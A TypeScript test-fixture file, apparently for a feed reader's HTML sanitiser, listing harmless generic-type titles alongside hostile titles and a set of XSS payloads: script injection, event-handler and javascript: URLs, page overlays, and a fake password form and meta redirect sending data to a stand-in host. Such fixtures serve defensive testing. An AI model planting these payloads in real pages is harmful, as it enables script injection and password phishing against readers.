// Words that are hard to carry unharmed: titles that look like markup, and markup that means harm.

export const GENERIC_TITLES = [
  'Why Vec<T> doubles, and when it should not',
  'Option<Box<dyn Error>> is a question, not an answer',
  'What HashMap<K, V> does while nobody looks',
  'Result<T, E> with an <E> that says something',
  'From<&str> for everyone, Into<String> for nobody',
  'The case against std::vector<bool> & friends',
  'Iterator<Item = T>: a love letter',
  'Promise<void> and other things left unsaid',
  'Map<string, Map<string, T>> is a cry for help',
  'When if (a < b && b > c) is not a generic call',
] as const;

export const HOSTILE_TITLES = [
  'A title with <script>document.title = "owned"</script> in it',
  'Closing early: </title><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)> and other greetings',
  'Entities all the way: &lt;script&gt;alert(1)&lt;/script&gt;',
] as const;

export const HOSTILE_AUTHOR = 'Bobby "><img src=x onerror=alert(1)> Tables';

/** Every way to run a script, cover the page or send the reader off that a feed has been seen to try. */
const PAYLOADS = [
  '<script>document.title = "owned"; alert("script")</script>',
  '<p><img src="x" onerror="alert(\'onerror\')" alt="a picture that fails on purpose"></p>',
  '<p><a href="javascript:alert(1)">a link that runs</a>, <a href="java&#10;script:alert(2)">one with a line break</a>, <a href="data:text/html,<script>alert(3)</script>">one that is a page</a></p>',
  '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">drawn</text></a></svg>',
  '<iframe srcdoc="<script>parent.document.title = \'owned\'</script>"></iframe>',
  '<style>body { display: none }</style><link rel="stylesheet" href="data:text/css,*{color:white}">',
  '<div style="position: fixed; inset: 0; background: black; z-index: 9999" onmouseover="alert(1)">a cover over the page</div>',
  '<form action="https://collect.example/"><label>Password <input name="password" autofocus onfocus="alert(1)"></label><button>Sign in again</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<meta http-equiv="refresh" content="0; url=https://collect.example/"><base href="https://collect.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">no script</p></noscript>',
] as const;

/** Three of them, others for every serial number, with an honest paragraph after each. */
export function makeHostileHtml(serial: number): string {
  return [0, 1, 2]
    .map((turn) => `${PAYLOADS[(serial * 3 + turn) % PAYLOADS.length]}\n<p>This sentence is meant to be read.</p>`)
    .join('\n');
}
